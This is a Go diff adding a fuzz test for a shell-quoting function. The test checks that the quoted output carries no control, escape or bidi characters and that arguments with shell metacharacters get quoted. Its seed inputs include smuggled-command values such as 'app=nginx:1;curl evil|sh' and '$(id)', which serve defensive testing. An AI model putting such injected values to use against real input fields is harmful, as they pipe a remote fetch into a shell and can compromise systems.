@@ -33,3 +33,28 @@ func FuzzForTerminal(f *testing.F) {
 		}
 	})
 }
+
+// FuzzShellQuote checks that a quoted command line never carries a raw
+// control character, escape, bidi control or invalid UTF-8 (it shows
+// them as $'\x..' escapes), and that an argument with anything a shell
+// interprets is quoted. TestShellQuoteRunsAsShown has bash parse it back.
+func FuzzShellQuote(f *testing.F) {
+	for _, s := range []string{"app=nginx:1;curl evil|sh", "$(id)", "it's", "", "a\x1b[2Jb", "x\u202ey", "\xff"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, arg string) {
+		out := ShellQuote(arg)
+		if !utf8.ValidString(out) {
+			t.Fatalf("ShellQuote(%q) = %q: invalid UTF-8", arg, out)
+		}
+		for _, r := range out {
+			if r < 0x20 || (r >= 0x7f && r <= 0x9f) || isControl(r) {
+				t.Fatalf("ShellQuote(%q) = %q: contains control %U", arg, out, r)
+			}
+		}
+		if strings.ContainsAny(arg, " \t\n;&|<>()$`\\\"'*?[]#~=%!{}") && !strings.HasPrefix(out, "'") && !strings.HasPrefix(out, "$'") &&
+			!(bare(arg) && arg != "") {
+			t.Fatalf("ShellQuote(%q) = %q: not quoted", arg, out)
+		}
+	})
+}
